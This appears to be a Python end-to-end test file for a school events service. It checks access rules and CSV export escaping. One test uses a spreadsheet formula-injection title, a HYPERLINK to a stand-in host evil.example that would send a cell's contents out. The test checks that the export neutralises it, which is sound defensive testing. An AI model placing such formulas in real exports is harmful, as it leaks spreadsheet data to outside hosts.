"""Issue 10 over HTTP in the events area: refusals decided by the events service (the gateway no
longer decides them), reads scoped to need, approvals for the designated approver only, and a
statement CSV a spreadsheet cannot run."""

from datetime import UTC, datetime, timedelta

from contracts.school_year import term_of
from support.platform import DEMO_SCHOOL_URN


def _event(**extra):
    start = datetime.now(UTC) + timedelta(days=40)
    return {
        "title": extra.pop("title", "E2E trust course"),
        "kind": extra.pop("kind", "course"),
        "capacity": extra.pop("capacity", 10),
        "sessions": [
            {
                "starts_at": start.isoformat(),
                "ends_at": (start + timedelta(hours=2)).isoformat(),
                "venue": "Hub",
            }
        ],
        **extra,
    }


def _term(event: dict) -> str:
    """The term the event starts in, named by its calendar year (``2027-spring``)."""
    return term_of(datetime.fromisoformat(event["sessions"][0]["starts_at"])).name


def _forbidden(response) -> bool:
    return response.status_code == 403 and response.json()["error"]["code"] == "FORBIDDEN"


def _someone_at_another_school(coordinator) -> dict:
    people = coordinator.get("/api/v1/people", params={"per_page": 100}).json()["items"]
    return next(p for p in people if p.get("school_urn") not in (None, DEMO_SCHOOL_URN))


def test_booking_another_schools_staff_is_refused(as_user):
    coordinator, teacher, admin = (
        as_user("coordinator"),
        as_user("teacher"),
        as_user("school_admin"),
    )
    event = coordinator.post("/api/v1/events", json=_event(title="Trust booking")).json()
    stranger = _someone_at_another_school(coordinator)
    path = f"/api/v1/events/{event['id']}/bookings"
    assert _forbidden(teacher.post(path, json={"person_id": stranger["id"]}))
    assert _forbidden(admin.post(path, json={"person_id": stranger["id"]}))
    teacher_id = teacher.get("/api/v1/me").json()["id"]
    booked = admin.post(path, json={"person_id": teacher_id})  # own school's staff
    assert booked.status_code == 201 and booked.json()["booked_by"] != teacher_id
    by_coordinator = coordinator.post(path, json={"person_id": stranger["id"]})
    assert by_coordinator.status_code == 201


def test_only_the_designated_approver_answers_an_approval(as_user):
    coordinator, teacher, head, admin = (
        as_user("coordinator"),
        as_user("teacher"),
        as_user("headteacher"),
        as_user("school_admin"),
    )
    event = coordinator.post(
        "/api/v1/events", json=_event(title="Trust approval", requires_approval=True)
    ).json()
    booking = teacher.post(f"/api/v1/events/{event['id']}/bookings", json={}).json()
    assert booking["status"] == "pending_approval"
    assert booking["approver_id"] == head.get("/api/v1/me").json()["id"]
    path = f"/api/v1/bookings/{booking['id']}/approval"
    assert _forbidden(admin.post(path, json={"approve": True}))
    assert _forbidden(teacher.post(path, json={"approve": True}))
    assert head.post(path, json={"approve": True}).json()["status"] == "confirmed"


def test_minutes_of_another_clusters_meeting_are_refused(as_user):
    coordinator, teacher = as_user("coordinator"), as_user("teacher")
    mine = teacher.get("/api/v1/schools", params={"q": "northshore"}).json()["items"][0]["cluster"]
    clusters = [c["id"] for c in coordinator.get("/api/v1/clusters").json()["items"]]
    other = next(c for c in clusters if c != mine)
    rota = coordinator.post(
        "/api/v1/rotas", json={"cluster": other, "academic_year": 2032, "year_groups": ["Year 3"]}
    )
    assert rota.status_code == 201, rota.text
    meeting = rota.json()["meetings"][0]["id"]
    published = coordinator.post(f"/api/v1/events/{meeting}/minutes", json={"minutes": "Ours."})
    assert published.status_code == 200
    assert _forbidden(teacher.get(f"/api/v1/events/{meeting}/minutes"))
    assert coordinator.get(f"/api/v1/events/{meeting}/minutes").json()["minutes"] == "Ours."


def test_training_request_reasons_are_hidden_from_colleagues(as_user):
    teacher, admin, head = as_user("teacher"), as_user("school_admin"), as_user("headteacher")
    asked = teacher.post(
        "/api/v1/training-requests",
        json={"topic": "Trust topic", "phase": "Primary", "reason": "Private reason"},
    ).json()

    def reason_for(client):
        items = client.get("/api/v1/training-requests", params={"per_page": 200}).json()["items"]
        return next(r for r in items if r["id"] == asked["id"])["reason"]

    assert reason_for(teacher) == "Private reason"
    assert reason_for(head) == "Private reason"
    assert reason_for(admin) is None
    assert reason_for(as_user("coordinator")) == "Private reason"


def test_the_statement_csv_writes_a_formula_title_as_text(as_user):
    coordinator, teacher, head = as_user("coordinator"), as_user("teacher"), as_user("headteacher")
    title = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
    school = head.get(f"/api/v1/schools/{DEMO_SCHOOL_URN}").json()
    pricing = {"price_pence": 1500, "by_type_group": {school["type_group"]: 1500}}  # charged
    event = coordinator.post("/api/v1/events", json=_event(title=title, pricing=pricing)).json()
    assert teacher.post(f"/api/v1/events/{event['id']}/bookings", json={}).status_code == 201
    params = {"term": _term(event), "format": "csv"}
    response = head.get(f"/api/v1/schools/{DEMO_SCHOOL_URN}/statement", params=params)
    assert response.status_code == 200
    assert "'=HYPERLINK" in response.text and ",=HYPERLINK" not in response.text
    assert _forbidden(teacher.get(f"/api/v1/schools/{DEMO_SCHOOL_URN}/statement", params=params))
